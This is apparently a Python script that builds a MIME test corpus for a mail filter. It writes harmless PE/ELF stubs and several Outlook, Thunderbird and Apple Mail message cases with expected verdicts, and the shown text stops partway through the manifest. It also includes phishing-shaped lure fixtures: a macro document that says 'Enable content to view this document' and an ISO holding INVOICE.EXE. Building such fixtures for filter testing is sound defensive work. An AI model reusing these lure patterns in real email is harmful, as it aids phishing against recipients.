#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
# make-corpus.py - writes the MIME golden corpus (tests/mime/*.eml) and its MANIFEST.
# Every binary attachment is built here from first principles (PE, ELF, OLE, OOXML, zip, 7z,
# tar.gz, ISO ...) so that anyone can see what each case holds and rebuild it.
#
# Usage: python3 tests/mime/make-corpus.py [OUTDIR]      (default: the directory of this script)
# Needs python3 and `7z` (one case). The output is the same on every run.

import base64
import gzip
import io
import os
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
SMALL = 16 * 1024  # files above this are fed at every split point at quadratic cost: at most 5

CASES = []


def case(name, eol="crlf"):
    """Register a generator: fn() -> (message, manifest text). eol: crlf, lf or raw (as built)."""

    def reg(fn):
        CASES.append((name, eol, fn))
        return fn

    return reg


# ---------------------------------------------------------------- encoders


def b64(data, width=76):
    s = base64.b64encode(data).decode()
    return "\n".join(s[i:i + width] for i in range(0, len(s), width)) + "\n"


def qp(text, charset="utf-8"):
    """Quoted-printable as mailers write it: 76 columns, soft breaks, =XX for 8-bit and '='."""
    out = []
    for line in text.split("\n"):
        enc = ""
        for ch in line.encode(charset):
            c = chr(ch)
            if ch == 0x3D or ch > 126 or (ch < 32 and c != "\t"):
                enc += "=%02X" % ch
            else:
                enc += c
        if enc.endswith(" ") or enc.endswith("\t"):
            enc = enc[:-1] + "=%02X" % ord(enc[-1])
        while len(enc) > 76:
            cut = 75
            while enc[cut - 1] == "=" or enc[cut - 2] == "=":
                cut -= 1
            out.append(enc[:cut] + "=")
            enc = enc[cut:]
        out.append(enc)
    return "\n".join(out)


def eol_fix(data, eol):
    if eol == "raw":
        return data
    data = data.replace(b"\r\n", b"\n")
    if eol == "crlf":
        data = data.replace(b"\n", b"\r\n")
    return data


# ---------------------------------------------------------------- true types


def pe_exe():
    """A minimal PE32 image header: MZ, e_lfanew -> PE\\0\\0, COFF, optional header, .text."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<HHHH", dos, 2, 0x90, 3, 0, 4)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21" \
           b"This program cannot be run in DOS mode.\r\r\n$"
    dos[0x40:0x40 + len(stub)] = stub
    struct.pack_into("<I", dos, 0x3C, 0x80)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 1, 0x65A0B1C2, 0, 0, 0xE0, 0x0102)
    opt = bytearray(0xE0)
    struct.pack_into("<HBBIIIIIII", opt, 0, 0x10B, 14, 0, 0x200, 0, 0, 0x1000, 0x1000, 0x2000,
                     0x400000)
    struct.pack_into("<IIHHHHHHIIIIHH", opt, 32, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x2000, 0x200,
                     0, 2, 0)
    struct.pack_into("<I", opt, 92, 16)
    sect = struct.pack("<8sIIIIIIHHI", b".text\0\0\0", 0x10, 0x1000, 0x200, 0x200, 0, 0, 0, 0,
                       0x60000020)
    img = bytes(dos) + coff + bytes(opt) + sect
    img += b"\0" * (0x200 - len(img))
    img += b"\x31\xc0\xc3" + b"\0" * (0x200 - 3)  # xor eax,eax; ret
    return img


def elf_exe():
    hdr = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8
    hdr += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    ph = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x1008, 0x1008, 0x1000)
    body = hdr + ph
    body += b"\0" * (0x1000 - len(body))
    body += b"\x48\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"  # exit(0)
    return body


def macho_exe():
    return struct.pack("<IiiIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0x00200085, 0) + b"\0" * 96


def pdf_doc(text="Hello"):
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        None,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    stream = ("BT /F1 12 Tf 20 50 Td (%s) Tj ET" % text).encode()
    objs[3] = b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return out


def png_1x1(rgb=(0x33, 0x66, 0x99)):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))

    raw = b"\0" + bytes(rgb)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def jpeg_tiny():
    """A JFIF header and an EXIF-free body: enough for every magic-bytes table."""
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\x01\x01\x00\x00\x48\x00\x48\x00\x00"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes(range(1, 65))
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 1, 1, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + app0 + dqt + sof + b"\xff\xd9"


def tnef_winmail():
    """winmail.dat: TNEF signature 0x223E9F78, legacy key, attTnefVersion and attOemCodepage."""
    def attr(level, aid, data):
        return struct.pack("<BII", level, aid, len(data)) + data + struct.pack(
            "<H", sum(data) & 0xFFFF)

    body = struct.pack("<IH", 0x223E9F78, 0x0101)
    body += attr(1, 0x00089006, struct.pack("<I", 0x00010000))
    body += attr(1, 0x00069007, struct.pack("<II", 1252, 0))
    body += attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\0")
    rtf = b"{\\rtf1\\ansi\\ansicpg1252 Please find the agenda below.\\par}"
    body += attr(3, 0x00069003, rtf)
    return body


def ole_cfb(tree):
    """A compound file (OLE2, v3, 512-byte sectors). tree: {name: None (empty stream) or dict
    (storage)}. Siblings are chained through 'right' in the CFB name order (length, then upper)."""
    entries = []  # [name, type, child, right]

    def add(name, typ):
        entries.append([name, typ, 0xFFFFFFFF, 0xFFFFFFFF])
        return len(entries) - 1

    def place(parent, children):
        ids = []
        for name in sorted(children, key=lambda n: (len(n), n.upper())):
            sub = children[name]
            i = add(name, 1 if isinstance(sub, dict) else 2)
            ids.append(i)
            if isinstance(sub, dict):
                place(i, sub)
        for a, b in zip(ids, ids[1:]):
            entries[a][3] = b
        if ids:
            entries[parent][2] = ids[0]

    add("Root Entry", 5)
    place(0, tree)
    while len(entries) % 4:
        entries.append(None)
    ndir = len(entries) // 4
    hdr = bytearray(512)
    hdr[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", hdr, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", hdr, 40, 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<I", hdr, 76, 0)
    for k in range(1, 109):
        struct.pack_into("<I", hdr, 76 + 4 * k, 0xFFFFFFFF)
    fat = [0xFFFFFFFD] + list(range(2, ndir + 1)) + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (128 - len(fat))
    out = bytes(hdr) + struct.pack("<128I", *fat)
    for e in entries:
        d = bytearray(128)
        if e is None:
            struct.pack_into("<III", d, 68, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
        else:
            name, typ, child, right = e
            u = name.encode("utf-16-le")
            d[0:len(u)] = u
            struct.pack_into("<HBBIII", d, 64, len(u) + 2, typ, 1, 0xFFFFFFFF, right, child)
            struct.pack_into("<I", d, 116, 0xFFFFFFFE)  # empty stream/storage: no sector
        out += bytes(d)
    return out


def ole_doc_plain():
    return ole_cfb({"WordDocument": None, "1Table": None, "\x05SummaryInformation": None})


def ole_doc_macro():
    return ole_cfb({"WordDocument": None, "1Table": None,
                    "Macros": {"PROJECT": None, "PROJECTwm": None,
                               "VBA": {"_VBA_PROJECT": None, "dir": None, "ThisDocument": None}}})


FIXED = (2024, 3, 14, 9, 26, 52)


def zip_of(files, method=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, FIXED)
            zi.compress_type = method
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return buf.getvalue()


CT_XML = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>%s'
          '<Override PartName="/word/document.xml" ContentType="%s"/></Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
DOC_XML = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           '<w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>')


def docx(text="Angebot"):
    return zip_of([("[Content_Types].xml", CT_XML % ("", "application/vnd.openxmlformats-"
                    "officedocument.wordprocessingml.document.main+xml")),
                   ("_rels/.rels", RELS), ("word/document.xml", DOC_XML % text)])


def docm():
    return zip_of([("[Content_Types].xml", CT_XML % (
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        "application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("_rels/.rels", RELS),
        ("word/document.xml", DOC_XML % "Enable content to view this document"),
        ("word/_rels/document.xml.rels",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
         '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
         'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
         'Target="vbaProject.bin"/></Relationships>'),
        ("word/vbaProject.bin", ole_cfb({"PROJECT": None, "PROJECTwm": None, "VBA": {
            "_VBA_PROJECT": None, "dir": None, "ThisDocument": None}}))])


def iso9660(files=(("INVOICE.EXE;1", None),)):
    """A small but complete ISO 9660 image: system area (16 sectors of zeros), a Primary Volume
    Descriptor ('CD001' at byte 32769), the terminator, L and M path tables, the root directory
    and one sector per file. A file given None holds the PE image."""
    def both16(v):
        return struct.pack("<H", v) + struct.pack(">H", v)

    def both32(v):
        return struct.pack("<I", v) + struct.pack(">I", v)

    date7 = bytes([124, 3, 14, 9, 26, 52, 0])  # 2024-03-14 09:26:52 UTC

    def record(name, extent, size, is_dir):
        r = (bytes([0]) + both32(extent) + both32(size) + date7 + bytes([2 if is_dir else 0, 0, 0])
             + both16(1) + bytes([len(name)]) + name)
        if len(r) % 2 == 0:
            r += b"\0"
        return bytes([len(r) + 1]) + r

    ROOT, DATA = 20, 21  # sectors: 16 PVD, 17 terminator, 18 and 19 path tables
    # libarchive reads 8 sectors past the system area before it believes a volume descriptor
    # set: an image shorter than 25 sectors is not an ISO to it, whatever its descriptors say.
    total = max(DATA + len(files), 25)
    root = record(b"\0", ROOT, 2048, True) + record(b"\1", ROOT, 2048, True)
    datas = []
    for k, (name, data) in enumerate(files):
        data = EXE if data is None else data
        root += record(name.encode(), DATA + k, len(data), False)
        datas.append(data.ljust(2048, b"\0"))
    pvd = bytearray(2048)
    pvd[0:7] = b"\x01CD001\x01"
    pvd[8:40] = b"LINUX".ljust(32)
    pvd[40:72] = b"ORDER_4471".ljust(32)
    pvd[80:88] = both32(total)
    pvd[120:124] = both16(1)
    pvd[124:128] = both16(1)
    pvd[128:132] = both16(2048)
    pvd[132:140] = both32(10)
    struct.pack_into("<I", pvd, 140, 18)
    struct.pack_into(">I", pvd, 148, 19)
    pvd[156:190] = record(b"\0", ROOT, 2048, True)
    pvd[190:813] = b" " * 623
    for off in (813, 830, 847, 864):
        pvd[off:off + 17] = (b"2024031409265200" if off == 813 else b"0" * 16) + b"\0"
    pvd[881] = 1
    term = bytearray(2048)
    term[0:7] = b"\xffCD001\x01"
    lpt = (bytes([1, 0]) + struct.pack("<I", ROOT) + struct.pack("<H", 1) + b"\0\0").ljust(2048, b"\0")
    mpt = (bytes([1, 0]) + struct.pack(">I", ROOT) + struct.pack(">H", 1) + b"\0\0").ljust(2048, b"\0")
    return (b"\0" * 32768 + bytes(pvd) + bytes(term) + lpt + mpt + root.ljust(2048, b"\0") + b"".join(datas)
            + b"\0" * (2048 * (total - DATA - len(files))))


def tar_gz(files):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data, mode in files:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1710408412
            ti.uname = ti.gname = "user"
            t.addfile(ti, io.BytesIO(data))
    return gzip.compress(raw.getvalue(), 9, mtime=0)


def tar_xz(files):
    import lzma
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data, mode in files:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1710408412
            ti.uname = ti.gname = "user"
            t.addfile(ti, io.BytesIO(data))
    return lzma.compress(raw.getvalue(), preset=9 | lzma.PRESET_EXTREME)


def seven_z(files):
    with tempfile.TemporaryDirectory() as d:
        for name, data in files:
            p = os.path.join(d, name)
            with open(p, "wb") as f:
                f.write(data)
            os.utime(p, (1710408412, 1710408412))
        subprocess.run(["7z", "a", "-bd", "-y", "-mx=9", "-mtc=off", "-mta=off", "x.7z"]
                       + [n for n, _ in files], cwd=d, check=True, stdout=subprocess.DEVNULL)
        with open(os.path.join(d, "x.7z"), "rb") as f:
            return f.read()


def zip_encrypted(files, password):
    """What `zip -P` writes: traditional PKWARE encryption (ZipCrypto) of deflated members, with
    a fixed 11-byte random header instead of a drawn one, so that the file is the same each run."""
    def crc_byte(c, b):
        return (zlib.crc32(bytes([b]), c ^ 0xFFFFFFFF) ^ 0xFFFFFFFF) & 0xFFFFFFFF

    def encrypt(plain):
        k = [0x12345678, 0x23456789, 0x34567890]

        def update(b):
            k[0] = crc_byte(k[0], b)
            k[1] = ((k[1] + (k[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
            k[2] = crc_byte(k[2], k[1] >> 24)

        for b in password.encode():
            update(b)
        out = bytearray()
        for b in plain:
            t = (k[2] | 2) & 0xFFFF
            out.append(b ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            update(b)
        return bytes(out)

    local, central = [], []
    for i, (name, data) in enumerate(files):
        crc = zlib.crc32(data)
        body = encrypt(bytes(range(0xA1, 0xAC)) + bytes([crc >> 24]) + deflate_raw(data))
        local.append((name, 8, body, len(data), crc))
        central.append((name, 8, len(body), len(data), crc, i))
    return zip_raw(local, central, flags=1)


def zip_raw(local_entries, central_entries, flags=0):
    """A zip written by hand. local_entries: [(name, method, data, usize, crc)], each gets a
    local header; central_entries: [(name, method, csize, usize, crc, local_index)]."""
    out, offs = b"", []
    for name, method, data, usize, crc in local_entries:
        offs.append(len(out))
        n = name.encode()
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0x4B3A, 0x586E, crc,
                           len(data), usize, len(n), 0) + n + data
    cd_start = len(out)
    for name, method, csize, usize, crc, li in central_entries:
        n = name.encode()
        out += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, flags, method, 0x4B3A,
                           0x586E, crc, csize, usize, len(n), 0, 0, 0, 0, 0o644 << 16,
                           offs[li]) + n
    cd_len = len(out) - cd_start
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central_entries),
                       len(central_entries), cd_len, cd_start, 0)
    return out


def deflate_raw(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


HARMLESS = b"This is not a program. It only carries a file name for the test.\n"
KNOWN_BAD = b"relaywarden corpus: known-bad sample for the attachment hash rule\n"


# ---------------------------------------------------------------- message helpers


def head(subject, frm="Mallory <mallory@attacker.test>", to="Bob <bob@example.com>",
         date="Thu, 14 Mar 2024 09:26:52 +0000", mid=None, extra=""):
    mid = mid or "<%08x@attacker.test>" % (zlib.crc32(subject.encode()) & 0xFFFFFFFF)
    return ("From: %s\nTo: %s\nSubject: %s\nDate: %s\nMessage-ID: %s\n%sMIME-Version: 1.0\n"
            % (frm, to, subject, date, mid, extra))


def mixed(subject, part_headers, part_body, text="Please see the attached file.\n",
          boundary="----=_Part_1_1804289383", frm="Mallory <mallory@attacker.test>"):
    """A plain multipart/mixed: text, then one attachment given by its headers and body."""
    return (head(subject, frm=frm)
            + 'Content-Type: multipart/mixed; boundary="%s"\n\n' % boundary
            + "--%s\nContent-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: 7bit\n\n"
              % boundary
            + text + "\n--%s\n" % boundary + part_headers + "\n" + part_body
            + "\n--%s--\n" % boundary)


def attach(name, data, ctype="application/octet-stream"):
    return ('Content-Type: %s; name="%s"\nContent-Disposition: attachment; filename="%s"\n'
            "Content-Transfer-Encoding: base64\n" % (ctype, name, name), b64(data))


def ew(text, charset):
    """One RFC 2047 base64 encoded word."""
    return "=?%s?B?%s?=" % (charset, base64.b64encode(text.encode(charset)).decode())


def text1(n=1, charset="us-ascii"):
    return "part: %d type=text/plain charset=%s" % (n, charset)


VERDICT_EXE = "verdict: reject (attachment truetype exe)"
KW_SECRET = "verdict: redirect compliance@example.com (keyword <secret>)"


# ================================================================ real-world client shapes

PDF = pdf_doc("Quarterly report")


@case("client-outlook-html-attach.eml")
def _():
    b1, b2 = "_004_DB9PR04MB84120E3A1F5D3B2C9E7A41D5A92AADB9PR04MB8412eurp_", \
             "_000_DB9PR04MB84120E3A1F5D3B2C9E7A41D5A92AADB9PR04MB8412eurp_"
    html = ('<html xmlns:o="urn:schemas-microsoft-com:office:office">\n<head>\n<meta http-equiv='
            '"Content-Type" content="text/html; charset=us-ascii">\n<style><!--\np.MsoNormal\n'
            '\t{margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;}\n--></style>\n'
            '</head>\n<body lang="EN-GB" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">'
            '\n<div class="WordSection1">\n<p class="MsoNormal">Hi Bob,<o:p></o:p></p>\n'
            '<p class="MsoNormal">please find the Q1 report attached.<o:p></o:p></p>\n'
            '<p class="MsoNormal">Kind regards,<o:p></o:p></p>\n<p class="MsoNormal">Erin<o:p>'
            '</o:p></p>\n</div>\n</body>\n</html>')
    msg = ("Received: from DB9PR04MB8412.eurprd04.prod.outlook.com ([fe80::1c2e:3a4b:5c6d:7e8f])"
           " by DB9PR04MB8412.eurprd04.prod.outlook.com\n ([fe80::1c2e:3a4b:5c6d:7e8f%%5]) with mapi "
           "id 15.20.7386.017; Thu, 14 Mar 2024 09:26:52 +0000\n"
           "From: Erin Smith <erin.smith@partner.test>\nTo: Bob <bob@example.com>\n"
           "Subject: Q1 report\nThread-Topic: Q1 report\nThread-Index: AdpL7q3Qb1mXyZ9kT0G6nH0p2wQWxA==\n"
           "Date: Thu, 14 Mar 2024 09:26:52 +0000\n"
           "Message-ID: <DB9PR04MB84120E3A1F5D3B2C9E7A41D5A92AA@DB9PR04MB8412.eurprd04.prod.outlook.com>\n"
           "Accept-Language: en-GB, en-US\nContent-Language: en-GB\nX-MS-Has-Attach: yes\n"
           "X-MS-TNEF-Correlator:\n"
           'Content-Type: multipart/mixed;\n\tboundary="%s"\nMIME-Version: 1.0\n\n' % b1
           + "--%s\nContent-Type: multipart/alternative;\n\tboundary=\"%s\"\n\n" % (b1, b2)
           + "--%s\nContent-Type: text/plain; charset=\"us-ascii\"\n"
             "Content-Transfer-Encoding: quoted-printable\n\n" % b2
           + qp("Hi Bob,\n\nplease find the Q1 report attached.\n\nKind regards,\nErin\n")
           + "\n--%s\nContent-Type: text/html; charset=\"us-ascii\"\n"
             "Content-Transfer-Encoding: quoted-printable\n\n" % b2 + qp(html)
           + "\n\n--%s--\n\n--%s\n" % (b2, b1)
           + 'Content-Type: application/pdf; name="Q1 report.pdf"\nContent-Description: Q1 report.pdf\n'
             'Content-Disposition: attachment; filename="Q1 report.pdf"; size=%d;\n'
             '\tcreation-date="Thu, 14 Mar 2024 09:25:10 GMT";\n'
             '\tmodification-date="Thu, 14 Mar 2024 09:26:52 GMT"\n'
             "Content-Transfer-Encoding: base64\n\n" % len(PDF) + b64(PDF) + "\n--%s--\n" % b1)
    return msg, """why: Outlook 365 (Exchange Online): mixed > alternative (QP plain + QP html) + PDF, tab-folded boundary
part: 0 type=multipart/mixed
part: 1 type=multipart/alternative
part: 2 type=text/plain charset=us-ascii
part: 3 type=text/html charset=us-ascii
part: 4 type=application/pdf disp=attachment name="Q1 report.pdf" ext=pdf truetype=pdf
keyword: none
mime: ok
verdict: accept"""


@case("client-outlook-related-inline.eml")
def _():
    b1, b2 = "_010_AM0PR10MB3364D0F7A6B8C9E1F2A3B4C5AM0PR10MB3364EURP_", \
             "_000_AM0PR10MB3364D0F7A6B8C9E1F2A3B4C5AM0PR10MB3364EURP_"
    png = png_1x1()
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            '<body><p class="MsoNormal">Grüße aus München,</p><p class="MsoNormal">Jörg</p>'
            '<p class="MsoNormal"><img width="120" height="40" id="Picture_x0020_1" '
            'src="cid:image001.png@01DA75F1.6A2B3C40" alt="Logo"></p></body></html>')
    msg = ("From: =?iso-8859-1?Q?J=F6rg_M=FCller?= <joerg.mueller@partner.test>\n"
           "To: Bob <bob@example.com>\nSubject: =?iso-8859-1?Q?Gr=FC=DFe?=\n"
           "Thread-Topic: =?iso-8859-1?Q?Gr=FC=DFe?=\nThread-Index: AQHadfGwbG9nbzEyMzQ1Ng==\n"
           "Date: Thu, 14 Mar 2024 10:02:11 +0100\n"
           "Message-ID: <AM0PR10MB3364D0F7A6B8C9E1F2A3B4C5@AM0PR10MB3364.EURPRD10.PROD.OUTLOOK.COM>\n"
           "Accept-Language: de-DE, en-US\nContent-Language: de-DE\nX-MS-Has-Attach: yes\n"
           'Content-Type: multipart/related;\n\tboundary="%s";\n\ttype="multipart/alternative"\n'
           "MIME-Version: 1.0\n\n" % b1
           + "--%s\nContent-Type: multipart/alternative;\n\tboundary=\"%s\"\n\n" % (b1, b2)
           + "--%s\nContent-Type: text/plain; charset=\"utf-8\"\nContent-Transfer-Encoding: base64\n\n"
             % b2 + b64("Grüße aus München,\nJörg\n\n[Logo]\n".encode())
           + "\n--%s\nContent-Type: text/html; charset=\"utf-8\"\nContent-Transfer-Encoding: base64\n\n"
             % b2 + b64(html.encode())
           + "\n--%s--\n\n--%s\n" % (b2, b1)
           + 'Content-Type: image/png; name="image001.png"\nContent-Description: image001.png\n'
             'Content-Disposition: inline; filename="image001.png"; size=%d;\n'
             '\tcreation-date="Thu, 14 Mar 2024 09:02:11 GMT";\n'
             '\tmodification-date="Thu, 14 Mar 2024 09:02:11 GMT"\n'
             "Content-ID: <image001.png@01DA75F1.6A2B3C40>\nContent-Transfer-Encoding: base64\n\n"
             % len(png) + b64(png) + "\n--%s--\n" % b1)
    return msg, """why: Outlook with an inline signature logo: related > alternative (base64 UTF-8 plain + html) + cid image
part: 0 type=multipart/related
part: 1 type=multipart/alternative
part: 2 type=text/plain charset=utf-8
part: 3 type=text/html charset=utf-8
part: 4 type=image/png disp=inline name="image001.png" ext=png truetype=unknown (png)
keyword: none
mime: ok
verdict: accept"""


@case("client-outlook-winmail.eml")
def _():
    b = "_002_VI1PR07MB6142A1B2C3D4E5F60718293A4B5C6D7EVI1PR07MB6142eurp_"
    tnef = tnef_winmail()
    msg = ("From: Frank <frank@partner.test>\nTo: Bob <bob@example.com>\nSubject: Agenda\n"
           "Date: Thu, 14 Mar 2024 11:15:00 +0000\n"
           "Message-ID: <VI1PR07MB6142A1B2C3D4E5F6@VI1PR07MB6142.eurprd07.prod.outlook.com>\n"
           "X-MS-Has-Attach:\nX-MS-TNEF-Correlator: <VI1PR07MB6142A1B2C3D4E5F6@VI1PR07MB6142.eurprd07.prod.outlook.com>\n"
           'Content-Type: multipart/mixed;\n\tboundary="%s"\nMIME-Version: 1.0\n\n' % b
           + "--%s\nContent-Type: text/plain; charset=\"Windows-1252\"\n"
             "Content-Transfer-Encoding: quoted-printable\n\n" % b
           + qp("Please find the agenda below \u2013 see you Monday.\n", "windows-1252")
           + "\n--%s\nContent-Type: application/ms-tnef; name=\"winmail.dat\"\n"
             "Content-Disposition: attachment; filename=\"winmail.dat\"\n"
             "Content-Transfer-Encoding: base64\n\n" % b + b64(tnef) + "\n--%s--\n" % b)
    return msg, """why: Outlook rich text (TNEF) to an outside recipient: plain windows-1252 QP + winmail.dat
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=windows-1252
part: 2 type=application/ms-tnef disp=attachment name="winmail.dat" ext=dat truetype=unknown(tnef)
keyword: none
mime: ok
verdict: accept"""


@case("client-thunderbird-flowed.eml")
def _():
    text = ("Hi Bob,\n\nthanks for the quick reply. I have checked the figures again and they \n"
            "look right to me; the only open point is the delivery date for the \nsecond batch.\n\n"
            "> Can you confirm the numbers before Friday?\n\nYes, done.\n\nGrüße\nHanna\n")
    msg = (head("Re: Lieferung", frm="Hanna Berg <hanna@partner.test>",
                mid="<3b1f2c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d@partner.test>",
                extra="User-Agent: Mozilla Thunderbird\nContent-Language: de-DE\n"
                      "In-Reply-To: <20240313161002.GA1234@example.com>\n")
           + "Content-Type: text/plain; charset=UTF-8; format=flowed\nContent-Transfer-Encoding: 8bit\n\n"
           + text)
    return msg, """why: Thunderbird plain text, format=flowed (trailing spaces), 8bit UTF-8, a single-part message
part: 0 type=text/plain charset=utf-8 format=flowed
keyword: none
mime: ok
verdict: accept"""


@case("client-thunderbird-attach.eml")
def _():
    b = "------------9mYm8TqP3vKx0ZzC1Ln2QwEr"
    d = docx("Angebot für Herrn Müller")
    msg = (head("Angebot", frm="Hanna Berg <hanna@partner.test>",
                mid="<a7c1e0f2-2b3c-4d5e-8f90-1a2b3c4d5e6f@partner.test>",
                extra="User-Agent: Mozilla Thunderbird\nContent-Language: de-DE\n")
           + 'Content-Type: multipart/mixed; boundary="%s"\n\n' % b
           + "This is a multi-part message in MIME format.\n--%s\n" % b
           + "Content-Type: text/plain; charset=UTF-8; format=flowed\nContent-Transfer-Encoding: 8bit\n\n"
           + "Hallo Bob,\n\nanbei das Angebot.\n\nHanna\n\n--%s\n" % b
           + "Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document;\n"
             " name*=UTF-8''Angebot%20M%C3%BCller.docx\n"
             "Content-Disposition: attachment;\n filename*=UTF-8''Angebot%20M%C3%BCller.docx\n"
             "Content-Transfer-Encoding: base64\n\n" + b64(d) + "\n--%s--\n" % b)
    return msg, """why: Thunderbird with a .docx: RFC 2231 UTF-8 file name in both name* and filename*, preamble line
part: 0 type=multipart/mixed
part: 1 type=text/plain charset=utf-8 format=flowed
part: 2 type=application/vnd.openxmlformats-officedocument.wordprocessingml.document disp=attachment name="Angebot Müller.docx" ext=docx truetype=ooxml
keyword: none
mime: ok
verdict: accept"""


@case("client-apple-mail.eml")
def _():
    b = "Apple-Mail=_6F1E2D3C-4B5A-4968-8776-A5B4C3D2E1F0"
    html = ('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
            '<body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: '
            'after-white-space;">Hi Bob,<div><br></div><div>Lunch on Thursday works for me \u2014 '
            'the usual place?</div><div><br></div><div>Ivy</div></body></html>')
    msg = ("From: Ivy Chen <ivy@partner.test>\nContent-Type: multipart/alternative;\n"
           '\tboundary="%s"\nMime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.400.31\\))\n'
           "Subject: Lunch\nMessage-Id: <8E2F4A61-3B7C-4D9E-A0F1-2B3C4D5E6F70@partner.test>\n"
           "Date: Thu, 14 Mar 2024 12:40:03 +0100\nTo: Bob <bob@example.com>\n"
           "X-Mailer: Apple Mail (2.3774.400.31)\n\n" % b
           + "\n--%s\nContent-Transfer-Encoding: quoted-printable\nContent-Type: text/plain;\n"
             "\tcharset=utf-8\n\n" % b
           + qp("Hi Bob,\n\nLunch on Thursday works for me \u2014 the usual place?\n\nIvy")
           + "\n--%s\nContent-Transfer-Encoding: quoted-printable\nContent-Type: text/html;\n"
             "\tcharset=utf-8\n\n" % b + qp(html) + "\n--%s--\n" % b)
    return msg, """why: Apple Mail: alternative with an empty preamble line, CTE before Content-Type, tab-folded charset, comment in Mime-Version
part: 0 type=multipart/alternative
part: 1 type=text/plain charset=utf-8
part: 2 type=text/html charset=utf-8
keyword: none
